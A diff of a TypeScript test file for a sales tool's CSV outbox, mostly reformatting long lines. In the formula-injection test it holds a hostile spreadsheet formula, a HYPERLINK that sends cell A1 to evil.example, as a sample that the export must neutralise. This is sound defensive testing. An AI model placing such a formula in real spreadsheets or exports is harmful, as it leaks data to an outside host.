@@ -1,6 +1,13 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { batchFileName, batchKey, leadRecordsCsv, outboxCsv, spreadsheetSafe, type OutboxRow } from '#core/outbox/index';
+import {
+  batchFileName,
+  batchKey,
+  leadRecordsCsv,
+  outboxCsv,
+  spreadsheetSafe,
+  type OutboxRow,
+} from '#core/outbox/index';
 import { folderProblem } from '#core/outbox/folder';
 
 /** The folder destination's files: what each kind's CSV looks like, what a file is called, what a failure says. */
@@ -29,7 +36,20 @@ describe('outboxCsv', () => {
         },
       },
     ]);
-    expect(headerOf(csv)).toEqual(['First Name', 'Last Name', 'Email', 'Company', 'Title', 'Phone', 'Lead Source', 'Rating', 'Description', 'Consent Version', 'Captured At', 'Pitchcase Lead ID']);
+    expect(headerOf(csv)).toEqual([
+      'First Name',
+      'Last Name',
+      'Email',
+      'Company',
+      'Title',
+      'Phone',
+      'Lead Source',
+      'Rating',
+      'Description',
+      'Consent Version',
+      'Captured At',
+      'Pitchcase Lead ID',
+    ]);
     expect(rowsOf(csv)).toEqual([
       {
         'First Name': 'Ana',
@@ -72,9 +92,33 @@ describe('outboxCsv', () => {
           endedAt: '2026-11-23T09:40:00.000Z',
         },
       },
-      { idempotencyKey: 'meeting:m-2', payload: { meetingId: 'm-2', Subject: 'Meeting: presented', ActivityDate: '2026-11-24', WhoId: null, WhatId: null, Account: null } },
+      {
+        idempotencyKey: 'meeting:m-2',
+        payload: {
+          meetingId: 'm-2',
+          Subject: 'Meeting: presented',
+          ActivityDate: '2026-11-24',
+          WhoId: null,
+          WhatId: null,
+          Account: null,
+        },
+      },
     ]);
-    expect(headerOf(csv)).toEqual(['Subject', 'ActivityDate', 'Status', 'Who Id', 'What Id', 'Account', 'Contact', 'Opportunity', 'Outcome', 'Description', 'Started At', 'Ended At', 'Pitchcase Id']);
+    expect(headerOf(csv)).toEqual([
+      'Subject',
+      'ActivityDate',
+      'Status',
+      'Who Id',
+      'What Id',
+      'Account',
+      'Contact',
+      'Opportunity',
+      'Outcome',
+      'Description',
+      'Started At',
+      'Ended At',
+      'Pitchcase Id',
+    ]);
     const [first, second] = rowsOf(csv);
     expect(first).toEqual({
       Subject: 'Meeting with Marston Brewery: trial agreed',
@@ -91,17 +135,43 @@ describe('outboxCsv', () => {
       'Ended At': '2026-11-23T09:40:00.000Z',
       'Pitchcase Id': 'meeting:m-1',
     });
-    expect(second).toMatchObject({ Subject: 'Meeting: presented', Status: 'Completed', 'Who Id': '', 'What Id': '', Account: '', 'Pitchcase Id': 'meeting:m-2' });
+    expect(second).toMatchObject({
+      Subject: 'Meeting: presented',
+      Status: 'Completed',
+      'Who Id': '',
+      'What Id': '',
+      Account: '',
+      'Pitchcase Id': 'meeting:m-2',
+    });
   });
 
   it('writes follow-ups as e-mail Tasks naming the meeting they follow', () => {
     const csv = outboxCsv('followup', [
       {
         idempotencyKey: 'followup:f-1',
-        payload: { followUpId: 'f-1', meetingId: 'm-1', To: 'ana.lima@marston-brewery.example', Subject: 'What we looked at', Body: 'Hello Ana,\n\nthe brochure: https://x', ActivityDate: '2026-11-23', WhoId: '003AA000001', WhatId: null },
+        payload: {
+          followUpId: 'f-1',
+          meetingId: 'm-1',
+          To: 'ana.lima@marston-brewery.example',
+          Subject: 'What we looked at',
+          Body: 'Hello Ana,\n\nthe brochure: https://x',
+          ActivityDate: '2026-11-23',
+          WhoId: '003AA000001',
+          WhatId: null,
+        },
       },
     ]);
-    expect(headerOf(csv)).toEqual(['Subject', 'ActivityDate', 'Type', 'To', 'Who Id', 'What Id', 'Body', 'Meeting Pitchcase Id', 'Pitchcase Id']);
+    expect(headerOf(csv)).toEqual([
+      'Subject',
+      'ActivityDate',
+      'Type',
+      'To',
+      'Who Id',
+      'What Id',
+      'Body',
+      'Meeting Pitchcase Id',
+      'Pitchcase Id',
+    ]);
     expect(rowsOf(csv)).toEqual([
       {
         Subject: 'What we looked at',
@@ -119,18 +189,76 @@ describe('outboxCsv', () => {
 
   it('writes one row per activity event with stable columns, whatever the event leaves out', () => {
     const csv = outboxCsv('event', [
-      { idempotencyKey: 'event:e-1', payload: { id: 'e-1', type: 'page.viewed', at: '2026-11-23T09:05:00.000Z', itemId: 'aquacore-500-brochure', page: 3, dwellMs: 42000, pitchId: 'p-1', meetingId: 'm-1', releaseVersion: 12 } },
-      { idempotencyKey: 'event:e-2', payload: { id: 'e-2', type: 'pitch.presented', at: '2026-11-23T09:06:00.000Z', itemId: null, page: null, dwellMs: null, pitchId: 'p-1', meetingId: null, releaseVersion: null } },
+      {
+        idempotencyKey: 'event:e-1',
+        payload: {
+          id: 'e-1',
+          type: 'page.viewed',
+          at: '2026-11-23T09:05:00.000Z',
+          itemId: 'aquacore-500-brochure',
+          page: 3,
+          dwellMs: 42000,
+          pitchId: 'p-1',
+          meetingId: 'm-1',
+          releaseVersion: 12,
+        },
+      },
+      {
+        idempotencyKey: 'event:e-2',
+        payload: {
+          id: 'e-2',
+          type: 'pitch.presented',
+          at: '2026-11-23T09:06:00.000Z',
+          itemId: null,
+          page: null,
+          dwellMs: null,
+          pitchId: 'p-1',
+          meetingId: null,
+          releaseVersion: null,
+        },
+      },
     ]);
-    expect(headerOf(csv)).toEqual(['Pitchcase Id', 'Type', 'At', 'Item', 'Page', 'Dwell ms', 'Pitch', 'Meeting Pitchcase Id', 'Release Version']);
+    expect(headerOf(csv)).toEqual([
+      'Pitchcase Id',
+      'Type',
+      'At',
+      'Item',
+      'Page',
+      'Dwell ms',
+      'Pitch',
+      'Meeting Pitchcase Id',
+      'Release Version',
+    ]);
     expect(rowsOf(csv)).toEqual([
-      { 'Pitchcase Id': 'event:e-1', Type: 'page.viewed', At: '2026-11-23T09:05:00.000Z', Item: 'aquacore-500-brochure', Page: '3', 'Dwell ms': '42000', Pitch: 'p-1', 'Meeting Pitchcase Id': 'meeting:m-1', 'Release Version': '12' },
-      { 'Pitchcase Id': 'event:e-2', Type: 'pitch.presented', At: '2026-11-23T09:06:00.000Z', Item: '', Page: '', 'Dwell ms': '', Pitch: 'p-1', 'Meeting Pitchcase Id': '', 'Release Version': '' },
+      {
+        'Pitchcase Id': 'event:e-1',
+        Type: 'page.viewed',
+        At: '2026-11-23T09:05:00.000Z',
+        Item: 'aquacore-500-brochure',
+        Page: '3',
+        'Dwell ms': '42000',
+        Pitch: 'p-1',
+        'Meeting Pitchcase Id': 'meeting:m-1',
+        'Release Version': '12',
+      },
+      {
+        'Pitchcase Id': 'event:e-2',
+        Type: 'pitch.presented',
+        At: '2026-11-23T09:06:00.000Z',
+        Item: '',
+        Page: '',
+        'Dwell ms': '',
+        Pitch: 'p-1',
+        'Meeting Pitchcase Id': '',
+        'Release Version': '',
+      },
     ]);
   });
 
   it('has a header even for no records, and refuses a kind it has no shape for', () => {
-    expect(outboxCsv('event', []).trim()).toBe('Pitchcase Id,Type,At,Item,Page,Dwell ms,Pitch,Meeting Pitchcase Id,Release Version');
+    expect(outboxCsv('event', []).trim()).toBe(
+      'Pitchcase Id,Type,At,Item,Page,Dwell ms,Pitch,Meeting Pitchcase Id,Release Version',
+    );
     expect(() => outboxCsv('invoice', [])).toThrow('A folder does not take "invoice" records');
   });
 });
@@ -158,32 +286,96 @@ describe('formula injection', () => {
 
   it('guards every text cell a visitor or rep typed, in every kind, and leaves numbers alone', () => {
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
-    const lead = rowsOf(outboxCsv('lead', [{ idempotencyKey: 'lead:1', payload: { leadId: '1', firstName: evil, lastName: '@Lima', company: '+Expo', role: '-x', phone: '\t0161', note: evil } }]))[0]!;
-    expect(lead).toMatchObject({ 'First Name': `'${evil}`, 'Last Name': "'@Lima", Company: "'+Expo", Title: "'-x", Phone: "'\t0161" });
+    const lead = rowsOf(
+      outboxCsv('lead', [
+        {
+          idempotencyKey: 'lead:1',
+          payload: {
+            leadId: '1',
+            firstName: evil,
+            lastName: '@Lima',
+            company: '+Expo',
+            role: '-x',
+            phone: '\t0161',
+            note: evil,
+          },
+        },
+      ]),
+    )[0]!;
+    expect(lead).toMatchObject({
+      'First Name': `'${evil}`,
+      'Last Name': "'@Lima",
+      Company: "'+Expo",
+      Title: "'-x",
+      Phone: "'\t0161",
+    });
     // The description starts with the note: guarded as a whole.
     expect(lead.Description!.startsWith(`'${evil}`)).toBe(true);
-    const meeting = rowsOf(outboxCsv('meeting', [{ idempotencyKey: 'meeting:1', payload: { Subject: evil, Account: '=1', Contact: '@x', Outcome: '+y', Description: '-z' } }]))[0]!;
-    expect(meeting).toMatchObject({ Subject: `'${evil}`, Account: "'=1", Contact: "'@x", Outcome: "'+y", Description: "'-z" });
-    const followUp = rowsOf(outboxCsv('followup', [{ idempotencyKey: 'followup:1', payload: { Subject: '=1', To: '@to', Body: evil } }]))[0]!;
+    const meeting = rowsOf(
+      outboxCsv('meeting', [
+        {
+          idempotencyKey: 'meeting:1',
+          payload: { Subject: evil, Account: '=1', Contact: '@x', Outcome: '+y', Description: '-z' },
+        },
+      ]),
+    )[0]!;
+    expect(meeting).toMatchObject({
+      Subject: `'${evil}`,
+      Account: "'=1",
+      Contact: "'@x",
+      Outcome: "'+y",
+      Description: "'-z",
+    });
+    const followUp = rowsOf(
+      outboxCsv('followup', [{ idempotencyKey: 'followup:1', payload: { Subject: '=1', To: '@to', Body: evil } }]),
+    )[0]!;
     expect(followUp).toMatchObject({ Subject: "'=1", To: "'@to", Body: `'${evil}` });
-    const event = rowsOf(outboxCsv('event', [{ idempotencyKey: 'event:1', payload: { type: 'item.opened', itemId: '=cmd', page: 2, dwellMs: 0 } }]))[0]!;
+    const event = rowsOf(
+      outboxCsv('event', [
+        { idempotencyKey: 'event:1', payload: { type: 'item.opened', itemId: '=cmd', page: 2, dwellMs: 0 } },
+      ]),
+    )[0]!;
     expect(event).toMatchObject({ Item: "'=cmd", Page: '2', 'Dwell ms': '0' });
   });
 });
 
 describe('batchFileName', () => {
-  const row = (key: string, createdAt: string): OutboxRow => ({ id: 1, kind: 'lead', idempotencyKey: key, payload: {}, createdAt, attempts: 0 });
+  const row = (key: string, createdAt: string): OutboxRow => ({
+    id: 1,
+    kind: 'lead',
+    idempotencyKey: key,
+    payload: {},
+    createdAt,
+    attempts: 0,
+  });
 
   it('names a batch by kind, the date of its first record and the start of its batch key', () => {
     const rows = [row('lead:b', '2026-11-24T08:00:00.000Z'), row('lead:a', '2026-11-23T23:59:00.000Z')];
     const key = batchKey(rows);
-    expect(batchFileName('lead', rows.map((r) => r.createdAt), key)).toBe(`pitchcase-lead-2026-11-23-${key.slice(0, 16)}.csv`);
-    expect(batchFileName('lead', rows.map((r) => r.createdAt), key)).toMatch(/^pitchcase-lead-2026-11-23-[0-9a-f]{16}\.csv$/);
+    expect(
+      batchFileName(
+        'lead',
+        rows.map((r) => r.createdAt),
+        key,
+      ),
+    ).toBe(`pitchcase-lead-2026-11-23-${key.slice(0, 16)}.csv`);
+    expect(
+      batchFileName(
+        'lead',
+        rows.map((r) => r.createdAt),
+        key,
+      ),
+    ).toMatch(/^pitchcase-lead-2026-11-23-[0-9a-f]{16}\.csv$/);
   });
 
   it('gives the same batch the same name, and another batch another', () => {
     const rows = [row('event:1', '2026-11-23T10:00:00.000Z'), row('event:2', '2026-11-23T10:01:00.000Z')];
-    const name = (rs: OutboxRow[]) => batchFileName('event', rs.map((r) => r.createdAt), batchKey(rs));
+    const name = (rs: OutboxRow[]) =>
+      batchFileName(
+        'event',
+        rs.map((r) => r.createdAt),
+        batchKey(rs),
+      );
     expect(name(rows.map((r) => ({ ...r })))).toBe(name(rows));
     expect(name([...rows, row('event:3', '2026-11-23T10:02:00.000Z')])).not.toBe(name(rows));
   });
@@ -192,7 +384,10 @@ describe('batchFileName', () => {
 describe('folderProblem', () => {
   const code = (c: string) => Object.assign(new Error(`${c}: from the system`), { code: c });
   it.each([
-    ['ENOENT', 'The folder /mnt/drop does not exist: create it, or connect the network share or let OneDrive/SharePoint sync it'],
+    [
+      'ENOENT',
+      'The folder /mnt/drop does not exist: create it, or connect the network share or let OneDrive/SharePoint sync it',
+    ],
     ['EACCES', 'Pitchcase may not write to the folder /mnt/drop (permission denied)'],
     ['EPERM', 'Pitchcase may not write to the folder /mnt/drop (permission denied)'],
     ['EROFS', 'The folder /mnt/drop is read-only'],
